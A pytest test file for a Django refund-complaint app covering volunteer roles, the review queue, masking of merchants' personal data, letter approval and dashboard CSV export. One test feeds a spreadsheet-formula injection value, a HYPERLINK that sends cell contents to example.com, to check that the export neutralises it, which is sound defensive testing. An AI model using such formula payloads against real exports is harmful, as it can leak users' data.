"""Volunteers and admins: roles, the review queue, assignment, comments, letter sign-off, dashboard."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from django.conf import settings
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile

from cases.models import Event, Evidence
from documents import letters
from documents.models import Document, LetterReview
from escalation.models import Channel, Provider, Rung
from reminders.models import Notification
from review import stats
from review.models import Comment
from tests.factories import admin_user, merchant, open_case, volunteer

pytestmark = pytest.mark.django_db


@pytest.fixture
def owner(ladder):
    return merchant("owner@example.com", full_name="王小明", mobile="13812345678")


@pytest.fixture
def queued(owner):
    case = open_case(owner)
    case.enqueue("help_requested", owner)
    return case


@pytest.fixture
def quiet(owner):
    """A case nobody asked help for."""
    return open_case(owner)


def test_merchants_and_strangers_cannot_see_the_review_side(client, owner, queued):
    for url in ["/review/", "/review/dashboard/", "/review/dashboard.csv", f"/review/cases/{queued.pk}/"]:
        client.logout()
        assert client.get(url)["Location"].startswith("/accounts/login/")
        client.force_login(owner)
        assert client.get(url).status_code == 404, url


def test_a_volunteer_sees_queued_and_own_cases_only(client, owner, queued, quiet):
    helper = volunteer()
    other_helper = volunteer("other@example.com")
    taken_by_other = open_case(owner)
    taken_by_other.enqueue("help_requested", owner)
    taken_by_other.take(other_helper)
    closed = open_case(owner)
    closed.enqueue("help_requested", owner)
    closed.withdraw("算了", owner)

    client.force_login(helper)
    page = client.get("/review/").content.decode()
    assert str(queued.pk) in page
    for hidden in (quiet, taken_by_other, closed):
        assert str(hidden.pk) not in page
        assert client.get(f"/review/cases/{hidden.pk}/").status_code == 404
    assert client.get(f"/review/cases/{queued.pk}/").status_code == 200
    # A volunteer never acts as the merchant.
    assert client.get(f"/cases/{queued.pk}/ladder/intake/").status_code == 404


def test_volunteer_downloads_follow_the_same_rule(client, owner, queued, quiet):
    shown = Evidence.add(queued, SimpleUploadedFile("a.txt", b"x"), "text/plain", owner, title="t")
    hidden = Evidence.add(quiet, SimpleUploadedFile("b.txt", b"y"), "text/plain", owner, title="t")
    document = letters.issue(queued, letters.find_letter(queued, "refund_application"), "zh-hans", owner)
    client.force_login(volunteer())
    assert client.get(f"/cases/{queued.pk}/evidence/{shown.pk}/").status_code == 200
    assert client.get(f"/cases/{queued.pk}/documents/{document.pk}/").status_code == 200
    assert client.get(f"/cases/{quiet.pk}/evidence/{hidden.pk}/").status_code == 404
    queued.release(admin_user())
    assert client.get(f"/cases/{queued.pk}/evidence/{shown.pk}/").status_code == 404


def test_an_admin_sees_everything(client, queued, quiet):
    client.force_login(admin_user())
    assert client.get(f"/review/cases/{quiet.pk}/").status_code == 200
    assert client.get("/review/dashboard/").status_code == 200


def test_the_three_ways_into_the_queue(client, owner, quiet):
    client.force_login(owner)
    client.post(f"/cases/{quiet.pk}/help/")
    quiet.refresh_from_db()
    assert quiet.queue_reason == "help_requested"

    letter_case = open_case(owner)
    client.post(f"/cases/{letter_case.pk}/letters/refund_application/review/", {"language": "zh-hans"})
    letter_case.refresh_from_db()
    assert letter_case.queue_reason == "letter_review"
    assert LetterReview.objects.filter(case=letter_case, status="pending").exists()

    reminded = open_case(owner)
    reminded.enqueue("reminders_unanswered")  # what the sweep does after two ignored reminders
    helper = volunteer()
    client.force_login(helper)
    page = client.get("/review/").content.decode()
    for case in (quiet, letter_case, reminded):
        assert str(case.pk) in page
    assert "商户请求协助" in page and "提交了文书审核" in page and "两次提醒后仍无进展" in page


def test_a_closed_case_is_not_sent_for_review(client, owner):
    """Only an open case goes to the volunteers: a closed one is told so, in the merchant's language, and nothing
    is written (no review, no queue entry, no timeline line)."""
    from django.contrib.messages import get_messages

    case = open_case(owner)
    case.withdraw("算了", owner)
    client.force_login(owner)
    response = client.post(f"/cases/{case.pk}/letters/refund_application/review/", {"language": "zh-hans"})
    assert response.status_code == 302
    assert response["Location"].endswith("#documents")
    assert [str(message) for message in get_messages(response.wsgi_request)] == [
        "本案已结案。如需继续，请在最后一页重新打开案件。"
    ]
    case.refresh_from_db()
    assert case.queued_at is None
    assert not LetterReview.objects.filter(case=case).exists()
    assert not case.events.filter(kind=Event.Kind.REVIEW_REQUESTED).exists()


def test_the_queue_masks_personal_data(client, queued):
    client.force_login(volunteer())
    page = client.get("/review/").content.decode()
    assert "王*明" in page
    assert "王小明" not in page and "13812345678" not in page
    detail = client.get(f"/review/cases/{queued.pk}/").content.decode()
    assert "138****5678" in detail and "13812345678" not in detail
    assert "822100058120001" not in detail


def test_taking_and_releasing_a_case(client, owner, queued):
    helper = volunteer()
    client.force_login(helper)
    client.post(f"/review/cases/{queued.pk}/take/")
    queued.refresh_from_db()
    assert queued.assigned_to == helper
    assert queued.events.filter(kind=Event.Kind.ASSIGNED, actor=helper).exists()
    page = client.get("/review/").content.decode()
    assert "李志愿" in page  # the workload table
    assert "With 李志愿" in page or "由李志愿处理" in page

    second = volunteer("second@example.com", full_name="赵二")
    client.force_login(second)
    assert client.post(f"/review/cases/{queued.pk}/take/").status_code == 404
    assert client.post(f"/review/cases/{queued.pk}/release/").status_code == 404

    client.force_login(helper)
    client.post(f"/review/cases/{queued.pk}/release/")
    queued.refresh_from_db()
    assert queued.queued_at is None and queued.assigned_to is None
    assert str(queued.pk) not in client.get("/review/").content.decode()
    assert client.get(f"/review/cases/{queued.pk}/").status_code == 404


def test_workload_counts_open_assigned_cases(client, owner):
    helper = volunteer()
    for _ in range(3):
        case = open_case(owner)
        case.enqueue("help_requested", owner)
        case.take(helper)
    case.withdraw("done", owner)  # closed cases leave the count
    client.force_login(helper)
    workload = client.get("/review/").context["workload"]
    assert [(person.pk, person.open_cases) for person in workload] == [(helper.pk, 2)]


def test_opening_a_case_writes_an_access_event_once_in_a_while(client, queued):
    helper = volunteer()
    client.force_login(helper)
    client.get(f"/review/cases/{queued.pk}/")
    client.get(f"/review/cases/{queued.pk}/")
    assert queued.events.filter(kind=Event.Kind.OPENED_BY_VOLUNTEER, actor=helper).count() == 1


def test_comments_internal_and_to_the_merchant(client, owner, queued):
    helper = volunteer()
    client.force_login(helper)
    client.post(f"/review/cases/{queued.pk}/comment/", {"body": "只给志愿者看的备注", "visibility": "internal"})
    client.post(f"/review/cases/{queued.pk}/comment/", {"body": "请补充扣款记录截图", "visibility": "merchant"})
    client.post(f"/review/cases/{queued.pk}/comment/", {"body": "", "visibility": "merchant"})
    assert Comment.objects.count() == 2
    notices = Notification.objects.filter(user=owner, kind="comment")
    assert notices.count() == 1
    client.force_login(owner)
    page = client.get(f"/cases/{queued.pk}/", follow=True).content.decode()
    assert "请补充扣款记录截图" in page
    assert "只给志愿者看的备注" not in page
    assert "请补充扣款记录截图" in client.get("/notifications/").content.decode()


def test_queue_filters(client, owner, queued):
    helper = volunteer()
    other_provider = Provider.objects.get(short_name_zh="银联商务")
    at_rung_two = open_case(owner, provider=other_provider)
    at_rung_two.record_policy_read(None, {}, owner)
    step = at_rung_two.log_step(
        rung=Rung.objects.get(position=2),
        channel=Channel.objects.get(code="provider-service"),
        actor=owner,
        started_on=dt.date(2025, 4, 1),
    )
    assert step.due_on < dt.date.today()  # noqa: DTZ011
    at_rung_two.enqueue("help_requested", owner)
    at_rung_two.take(helper)
    client.force_login(helper)

    def listed(**params):
        return {case.pk for case in client.get("/review/", params).context["cases"]}

    assert listed() == {queued.pk, at_rung_two.pk}
    assert listed(rung=2) == {at_rung_two.pk}
    assert listed(provider=other_provider.pk) == {at_rung_two.pk}
    assert listed(overdue="on") == {at_rung_two.pk}
    assert listed(unassigned="on") == {queued.pk}
    assert listed(mine="on") == {at_rung_two.pk}


def test_a_letter_waits_for_approval_before_it_can_be_issued(client, owner):
    case = open_case(owner)
    base = f"/cases/{case.pk}/letters/complaint_financial/pboc-branch"
    client.force_login(owner)
    client.post(f"{base}/review/", {"language": "zh-hans"})
    response = client.post(f"{base}/issue/", {"language": "zh-hans"})
    assert not Document.objects.exists()
    assert any("等待志愿者审核" in str(message) for message in response.wsgi_request._messages)

    helper = volunteer()
    client.force_login(helper)
    review = LetterReview.objects.get()
    letter_page = client.get(f"/review/cases/{case.pk}/letters/{review.pk}/").content.decode()
    assert "投诉书" in letter_page
    # Asking for changes needs a note, and blocks issuing.
    client.post(f"/review/cases/{case.pk}/letters/{review.pk}/decide/", {"decision": "changes", "note": ""})
    review.refresh_from_db()
    assert review.status == "pending"
    client.post(
        f"/review/cases/{case.pk}/letters/{review.pk}/decide/", {"decision": "changes", "note": "请补充联系记录"}
    )
    review.refresh_from_db()
    assert review.status == "changes"
    client.force_login(owner)
    client.post(f"{base}/issue/", {"language": "zh-hans"})
    assert not Document.objects.exists()
    assert Notification.objects.filter(user=owner, kind="review").exists()

    # The merchant fixes the case and asks again; the volunteer approves.
    case.log_step(rung=Rung.objects.get(position=2), actor=owner, started_on=dt.date(2025, 5, 1), outcome="refused")
    client.post(f"{base}/review/", {"language": "zh-hans"})
    second = LetterReview.objects.latest("requested_at")
    client.force_login(helper)
    client.post(f"/review/cases/{case.pk}/letters/{second.pk}/decide/", {"decision": "approve"})
    client.force_login(owner)
    case.enter_rung(Rung.objects.get(position=4), owner, reason="客服拒绝，直接投诉")
    page = client.get(f"/cases/{case.pk}/ladder/third_party/").content.decode()
    assert "已由李志愿于" in page  # "reviewed by … on …"
    client.post(f"{base}/issue/", {"language": "zh-hans"})
    document = Document.objects.get()
    assert document.review == second

    # Changing the letter after approval needs a new review (the printing date alone does not).
    case.save_charge(case.first_charge(), {"amount": Decimal("999")}, owner)
    client.post(f"{base}/issue/", {"language": "zh-hans"})
    assert Document.objects.count() == 1


ID_NUMBER = "11010519491231002X"
CIVIL = "/letters/civil_complaint/basic-court"


def read_submitted_letter(client, case):
    """The last submitted letter as the case's volunteer reads it."""
    review = LetterReview.objects.latest("requested_at")
    client.force_login(volunteer())
    return client.get(f"/review/cases/{case.pk}/letters/{review.pk}/").content.decode()


def test_volunteers_read_letters_with_the_merchants_details_masked(client, ladder):
    owner = merchant("owner@example.com", full_name="王小明", mobile="13812345678", id_number=ID_NUMBER)
    case = open_case(owner)
    case.story = "代理的电话是 139 8765 4321，我的身份证 110105194912310021。"
    case.save(update_fields=["story"])
    client.force_login(owner)
    preview = client.get(f"/cases/{case.pk}{CIVIL}/preview/").content.decode()
    assert "13812345678" in preview and ID_NUMBER in preview and "人民南路四段1号" in preview  # the merchant's own

    client.post(f"/cases/{case.pk}{CIVIL}/review/", {"language": "zh-hans"})
    letter = read_submitted_letter(client, case)
    assert "起诉状" in letter and "王小明" in letter
    for secret in ("13812345678", ID_NUMBER, "人民南路四段1号", "139 8765 4321", "110105194912310021"):
        assert secret not in letter
    assert "138****5678" in letter and "1101**********002X" in letter and "四川省成都市*" in letter
    assert "139****4321" in letter
    review = LetterReview.objects.get()
    assert "13812345678" not in review.html and not review.shares_personal_data  # nor stored in full
    assert case.events.get(kind=Event.Kind.REVIEW_REQUESTED).data["shares_personal_data"] is False

    # The issued PDF stays complete.
    client.force_login(owner)
    review.decide(volunteer("second@example.com"), approve=True)
    document = letters.issue(case, letters.find_letter(case, "civil_complaint", "basic-court"), "zh-hans", owner)
    assert ID_NUMBER in document.html and "13812345678" in document.html


def test_a_merchant_may_show_their_details_to_the_volunteer(client, ladder):
    owner = merchant("owner@example.com", full_name="王小明", mobile="13812345678", id_number=ID_NUMBER)
    case = open_case(owner)
    client.force_login(owner)
    page = client.get(f"/cases/{case.pk}/ladder/application/").content.decode()
    assert 'name="share_personal_data"' in page
    client.post(f"/cases/{case.pk}{CIVIL}/review/", {"language": "zh-hans", "share_personal_data": "on"})
    letter = read_submitted_letter(client, case)
    assert "13812345678" in letter and ID_NUMBER in letter and "人民南路四段1号" in letter
    event = case.events.get(kind=Event.Kind.REVIEW_REQUESTED)
    assert event.data["shares_personal_data"] is True
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    page = client.get(f"/review/cases/{case.pk}/").content.decode()
    assert "with the ID number, mobile and address shown to volunteers" in page  # the timeline says so


def test_reviews_stored_before_masking_are_masked_when_read(client, ladder):
    owner = merchant("owner@example.com", full_name="王小明", mobile="13812345678", id_number=ID_NUMBER)
    case = open_case(owner)
    review = letters.submit_for_review(case, letters.find_letter(case, "refund_application"), "zh-hans", owner)
    legacy = "<p>电话 13812345678，住址 四川省成都市武侯区人民南路四段1号</p>"
    LetterReview.objects.filter(pk=review.pk).update(html=legacy)
    letter = read_submitted_letter(client, case)
    assert "13812345678" not in letter and "人民南路四段1号" not in letter


def test_unreviewed_letters_issue_directly(client, owner):
    case = open_case(owner)
    letter = letters.find_letter(case, "refund_application")
    assert letters.issue_blocker(case, letter) is None


def resolved_case(owner, provider, contact_day, refund_day, rung, amount):
    case = open_case(owner, provider=provider, amount=Decimal(amount))
    case.log_step(rung=Rung.objects.get(position=2), actor=owner, started_on=contact_day, outcome="refused")
    case.resolve(Decimal(amount), refund_day, Rung.objects.get(position=rung), owner)
    return case


def test_dashboard_numbers_on_factory_data(client, owner):
    lakala = Provider.objects.get(short_name_zh="拉卡拉")
    ums = Provider.objects.get(short_name_zh="银联商务")
    start = dt.date(2026, 1, 1)
    resolved_case(owner, lakala, start, start + dt.timedelta(days=10), 3, "299")
    resolved_case(owner, lakala, start, start + dt.timedelta(days=20), 3, "199")
    resolved_case(owner, lakala, start, start + dt.timedelta(days=60), 4, "399")
    resolved_case(owner, ums, start, start + dt.timedelta(days=5), 2, "100")
    open_case(owner)  # open, rung 1
    withdrawn = open_case(owner)
    withdrawn.withdraw("放弃", owner)
    overdue = open_case(owner)
    overdue.log_step(rung=Rung.objects.get(position=2), actor=owner, started_on=dt.date(2025, 1, 1))

    data = stats.dashboard(dt.date(2026, 11, 21))
    assert data.refunded_count == 4
    assert data.recovered_amount == Decimal("997")
    assert data.overdue == 1
    assert data.status_totals == {"open": 2, "resolved": 4, "withdrawn": 1}
    assert data.median_by_provider == [("拉卡拉支付股份有限公司", 20, 3), ("银联商务股份有限公司", 5, 1)]
    by_rung = dict((title, (median, count)) for title, median, count in data.median_by_rung)
    assert by_rung == {"联系客服": (5, 1), "书面申请": (15, 2), "第三方投诉": (60, 1)}

    client.force_login(volunteer())
    page = client.get("/review/dashboard/").content.decode()
    assert "<svg" in page and "¥997.00" in page
    content = client.get("/review/dashboard.csv").content
    assert content.startswith("\ufeff".encode())  # so that Excel in Chinese opens it as UTF-8
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert ["refunded_cases", "", "", "4"] in rows
    assert ["amount_recovered_yuan", "", "", "997.00"] in rows
    assert ["median_days_to_refund_by_provider", "拉卡拉支付股份有限公司", "cases=3", "20"] in rows


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_name_that_looks_like_a_formula_reaches_the_csv_as_text(client, owner, start):
    """A merchant types the company's name; a volunteer opens the CSV in a spreadsheet: no formula runs."""
    name = f'{start}HYPERLINK("http://example.com/?"&A1,"点我")'
    case = open_case(owner, provider=None, provider_other=name)  # a typed name joins the provider directory
    if start.isspace():  # the intake trims a leading tab or CR, but an admin may still edit one in
        Provider.objects.filter(pk=case.provider_id).update(name=name)
    case.refresh_from_db()
    assert case.provider.name == name
    case.log_step(rung=Rung.objects.get(position=2), actor=owner, started_on=dt.date(2026, 1, 1))
    case.resolve(Decimal("299"), dt.date(2026, 1, 20), Rung.objects.get(position=3), owner)

    client.force_login(volunteer())
    rows = list(csv.reader(io.StringIO(client.get("/review/dashboard.csv").content.decode(), newline="")))
    assert ["median_days_to_refund_by_provider", "'" + name, "cases=1", "19"] in rows
    assert ["refunded_cases", "", "", "1"] in rows  # numbers stay numbers


def test_only_formula_like_text_is_quoted():
    from review.views import spreadsheet_safe

    for text in ["=1+1", "+86 138", "-5", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"]:
        assert spreadsheet_safe(text) == "'" + text
    for value in ["拉卡拉支付股份有限公司", "cases=3", "a-b", "", 20, -3, 12.5]:
        assert spreadsheet_safe(value) == value


def test_advice_appears_once_five_cases_with_the_provider_closed(client, owner):
    lakala = Provider.objects.get(short_name_zh="拉卡拉")
    start = dt.date(2026, 1, 1)
    for days in (10, 12, 14, 30):
        resolved_case(owner, lakala, start, start + dt.timedelta(days=days), 3, "299")
    current = open_case(owner)
    assert stats.provider_advice(current) is None  # four closed cases
    withdrawn = open_case(owner)
    withdrawn.withdraw("放弃", owner)
    assert stats.provider_advice(current) is None  # the figures are cached for a while...
    cache.clear()  # ...and computed again once the cache lets go
    advice = stats.provider_advice(current)
    assert (advice.rung, advice.median_days, advice.refunds, advice.closed) == ("书面申请", 13, 4, 5)
    client.force_login(owner)
    page = client.get(f"/cases/{current.pk}/", follow=True).content.decode()
    assert "书面申请" in page and "13" in page and "中位数" in page


def test_admin_lists_have_filters_and_search(client, queued):
    client.force_login(admin_user())
    for model in [
        "cases/case",
        "accounts/profile",
        "cases/step",
        "documents/document",
        "reminders/reminder",
        "documents/letterreview",
        "review/comment",
        "cases/event",
        "reminders/sweeprun",
    ]:
        response = client.get(f"/admin/{model}/", {"q": "x"})
        assert response.status_code == 200, model
    for url in ["/admin/auth/user/", "/admin/auth/group/"]:
        page = client.get(url).content.decode()
        assert "搜索" in page
    page = client.get("/admin/accounts/profile/").content.decode()
    assert "王*明" in page and "13812345678" not in page


def test_roles_exist_with_their_permissions(db):
    from django.contrib.auth.models import Group

    from accounts.roles import ensure_roles

    ensure_roles()
    names = set(Group.objects.values_list("name", flat=True))
    assert {"merchant", "volunteer", "admin"} <= names
    assert Group.objects.get(name="volunteer").permissions.filter(codename="review_case").exists()
    assert not Group.objects.get(name="merchant").permissions.exists()
    assert Group.objects.get(name="admin").permissions.filter(codename="change_policytext").exists()


def test_signup_makes_a_merchant(client, ladder, sms_outbox):
    client.post(
        "/accounts/signup/",
        {
            "full_name": "新商户",
            "email": "new@example.com",
            "mobile": "13900001111",
            "password1": "A-long-secret-2026",
            "password2": "A-long-secret-2026",
        },
    )
    code = re.search(r"(?<!\d)(\d{6})(?!\d)", sms_outbox()[-1]["text"]).group(1)
    client.post("/accounts/sms/code/", {"code": code})
    from django.contrib.auth import get_user_model

    assert get_user_model().objects.get(username="new@example.com").groups.filter(name="merchant").exists()
